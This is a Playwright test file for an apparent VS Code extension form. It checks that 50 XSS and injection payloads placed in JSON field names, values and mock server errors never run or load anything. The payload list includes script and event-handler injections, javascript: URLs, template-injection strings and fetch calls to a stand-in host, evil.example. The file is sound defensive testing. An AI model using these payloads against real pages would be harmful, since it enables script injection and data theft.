import assert from 'node:assert/strict';
import type { Dialog, Request } from 'playwright-core';
import type { Sandbox } from '../../src/sandbox/startSandbox';
import type { Workbench } from '../host/workbench';
import { accounts } from '../sandboxAccounts';
import { setStage } from './stage';

const run = 'window.top.ran=1,fetch("https://evil.example/ran")';
const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `</script><script>${run}</script>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<script type="module">${run}</script>`,
  `<img src=x onerror='${run}'>`,
  `<img src="https://evil.example/a.png">`,
  `<image src=x onerror='${run}'>`,
  `<svg onload='${run}'>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin='${run}' attributeName=x dur=1s>`,
  `<svg><use href="https://evil.example/a.svg#x"/></svg>`,
  `<math><mtext><img src=x onerror='${run}'></mtext></math>`,
  `<body onload='${run}'>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="https://evil.example/"></object>`,
  `<embed src="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/a.css">`,
  `<style>@import "https://evil.example/a.css";</style>`,
  `<style>*{background:url(https://evil.example/b)}</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus>`,
  `<input autofocus onfocus='${run}'>`,
  `<select autofocus onfocus='${run}'>`,
  `<details open ontoggle='${run}'>`,
  `<video><source onerror='${run}'></video>`,
  `<audio src=x onerror='${run}'>`,
  `<marquee onstart='${run}'>`,
  `<a href="javascript:${run}" autofocus>x</a>`,
  `<a href="command:workbench.action.terminal.new">x</a>`,
  `[x](command:workbench.action.terminal.new)`,
  `![x](https://evil.example/a.png)`,
  `" onmouseover="${run}`,
  `' onfocus='${run}' autofocus='`,
  `"><img src=x onerror='${run}'>`,
  `'"--><svg onload='${run}'>`,
  `\`\${${run}}\``,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `__proto__`,
  `constructor`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
];

describe('a form of things that would be scripts', () => {
  let sandbox: Sandbox;
  let workbench: Workbench;
  const requested: string[] = [];
  const asked: string[] = [];
  const noteRequest = (request: Request) => requested.push(request.url());
  const noteDialog = (dialog: Dialog) => {
    asked.push(dialog.message());
    void dialog.dismiss();
  };
  before(async () => {
    assert.equal(new Set(payloads).size, 50);
    const members = (from: number, to: number) =>
      payloads.slice(from, to).map((payload) => `${JSON.stringify(payload)}: ${JSON.stringify(payload)}`);
    const lists = {
      emails: payloads.map((email) => ({ email })),
      languages: payloads,
      roles: payloads.map((name) => ({ id: name, name })),
      urls: payloads.map((url) => ({ type: 'x', url })),
    };
    const known = Object.entries(lists).map(([name, value]) => `${JSON.stringify(name)}: ${JSON.stringify(value)}`);
    const texts = ['name', 'title', 'avatar', 'timezone', 'user_type', 'password'].map(
      (name, index) => `"${name}": ${JSON.stringify(payloads[index])}`,
    );
    const target = `"$truto": { "integrated_account_id": "${accounts.hubspot}", "id": "usr_ada" }`;
    const evil = `{ ${[target, ...texts, ...known, ...members(0, 50), `"remote_data": { ${members(0, 50).join(', ')} }`].join(',\n')} }\n`;
    const plain = `{ ${target},\n "languages": ${JSON.stringify(payloads.map((_, index) => `l${index}`))} }\n`;
    ({ workbench, sandbox } = await setStage({
      files: { 'evil.truto-user.json': evil, 'asked.truto-user.json': plain },
    }));
    workbench.page.on('request', noteRequest).on('dialog', noteDialog);
  });
  after(() => void workbench.page.off('request', noteRequest).off('dialog', noteDialog));

  async function assertNothingRan(): Promise<void> {
    const looked = [];
    for (const frame of workbench.page.frames()) {
      const ran = await frame.evaluate('"ran" in window || "ran" in Object.prototype').catch((error: unknown) => {
        // A frame that is gone runs nothing; one that cannot be read might.
        if (!frame.isDetached()) throw error;
        return false;
      });
      assert.equal(ran, false, frame.url());
      looked.push(frame.url());
    }
    assert.ok(
      looked.some((url) => url.includes('fake.html')),
      `the form among ${looked.join(', ')}`,
    );
    assert.deepEqual(
      requested.filter((url) => url.includes('evil.example')),
      [],
    );
    assert.deepEqual(asked, []);
  }

  it('shows 50 of them as names, keys and values, and runs and loads nothing', async () => {
    await workbench.openFile('evil.truto-user.json');
    const form = workbench.webview();
    assert.equal(await form.getByLabel('Job title', { exact: true }).inputValue(), payloads[1]);
    // The items of long lists come one after another.
    await form.locator('.list[aria-busy="true"]').first().waitFor({ state: 'detached' });
    // VS Code adds its own script and style.
    assert.equal(await form.locator('script', { hasText: 'evil' }).or(form.locator('script[src*=evil]')).count(), 0);
    assert.equal(
      await form
        .locator(
          'iframe, object, embed, base, style:not(#_defaultStyles), img, video, audio, form, link:not([rel=stylesheet])',
        )
        .count(),
      0,
    );
    await assertNothingRan();
  });

  it('shows them in the words of a server, and runs and loads nothing', async () => {
    await workbench.openFile('asked.truto-user.json');
    const form = workbench.webview();
    const errors = payloads.map((message, index) => ({ field: `languages[${index}]`, message }));
    const body = {
      statusCode: 422,
      error: payloads[0],
      message: payloads[5],
      truto_is_remote_error: true,
      raw_response: { errors },
    };
    sandbox.inject({ kind: 'status', status: 422, remote: true, match: { method: 'PATCH' }, body });
    await form.getByRole('button', { name: 'Send Update' }).click();
    await workbench.dialog.waitFor('Update Ada Lovelace');
    await workbench.dialog.press('Send Update');
    // Of what a server says, tags are left out; the rest is shown as it is.
    for (const index of [33, 34, 35, 41, 44])
      await form
        .getByText(`refused “languages[${index}]”: ${payloads[index] ?? ''}`)
        .first()
        .waitFor({ state: 'attached' });
    await assertNothingRan();
  });
});
